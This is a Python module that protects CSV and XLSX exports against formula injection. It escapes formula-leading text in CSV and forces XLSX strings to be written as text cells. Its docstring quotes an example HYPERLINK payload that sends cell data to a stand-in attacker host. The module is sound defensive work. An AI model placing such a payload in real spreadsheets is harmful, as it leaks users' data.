"""The one rule for every spreadsheet file the product writes (CSV and XLSX, the staff export and
every report): user text is never a formula.

A title such as `=HYPERLINK("http://evil.example/?"&A1,"click")` must reach Excel as the text it
is. In XLSX every string is written as a text cell (`write_string`, and the workbook never turns
strings into formulas or links); in CSV, which has no cell types, text that Excel would read as a
formula (starting with = + - @, a tab or a carriage return) gets a leading `'` (OWASP, "CSV
injection"). Numbers stay numbers: a negative amount is an int, not text.

It lives at the lowest app that writes files (applicants); the report generators use it too.
"""

from decimal import Decimal

import xlsxwriter

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The only options workbooks are opened with: rows streamed to disk, and no string ever taken
# for a formula, a link or a number (XlsxWriter's defaults turn "=…" into a formula and
# "http://…" into a hyperlink when written with write()).
WORKBOOK_OPTIONS = {
    "constant_memory": True,
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
}


def neutralised(text: str) -> str:
    """Text as a CSV cell: a leading `'` when a spreadsheet would read it as a formula."""
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


def is_number(value) -> bool:
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def csv_value(value):
    """One CSV cell: numbers as they are, nothing as empty, anything else as neutralised text."""
    if value is None:
        return ""
    return value if is_number(value) else neutralised(str(value))


def open_workbook(path: str) -> xlsxwriter.Workbook:
    return xlsxwriter.Workbook(path, WORKBOOK_OPTIONS)


def write_cell(sheet, row: int, col: int, value, cell_format=None) -> None:
    """One XLSX cell by its Python type; text (whatever it starts with) is always a text cell."""
    if value is None:
        return
    if isinstance(value, bool):
        sheet.write_boolean(row, col, value, cell_format)
    elif is_number(value):
        sheet.write_number(row, col, float(value) if isinstance(value, Decimal) else value, cell_format)
    else:
        sheet.write_string(row, col, str(value), cell_format)
